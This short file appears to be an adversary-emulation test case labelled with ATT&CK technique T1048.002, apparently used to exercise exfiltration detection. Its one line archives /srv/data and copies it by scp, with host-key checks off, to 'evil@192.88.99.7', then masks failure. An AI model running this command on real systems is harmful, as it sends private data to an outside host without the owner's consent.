# title: scp sends an archive out
# technique: T1048.002 T1048
# needs: scp

tar czf /tmp/o.tgz /srv/data; timeout 2 scp -o BatchMode=yes -o StrictHostKeyChecking=no /tmp/o.tgz evil@192.88.99.7:/; true
